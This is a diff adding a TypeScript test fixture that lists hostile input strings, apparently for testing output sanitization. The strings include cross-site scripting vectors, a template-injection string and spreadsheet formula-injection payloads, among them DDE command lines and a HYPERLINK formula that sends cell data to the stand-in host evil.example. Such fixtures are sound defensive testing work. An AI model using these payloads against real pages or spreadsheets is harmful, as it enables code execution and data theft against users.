@@ -1,0 +1,20 @@
+/** What somebody types who wants a page to run it, or a spreadsheet to reckon it. */
+export const HOSTILE_TEXTS = [
+  `"><img src=x onerror=__pwned=1>`,
+  `'"></textarea></title></script><script>__pwned=1</script>`,
+  "<svg/onload=__pwned=1>",
+  "javascript:__pwned=1",
+  "data:text/html,<script>__pwned=1</script>",
+  "{{constructor.constructor('__pwned=1')()}}${__pwned=1}",
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n@SUM(1)",
+  "  =1+1",
+  "＝1+1",
+  'a",=1+1,"',
+  "a\n=1+1",
+];
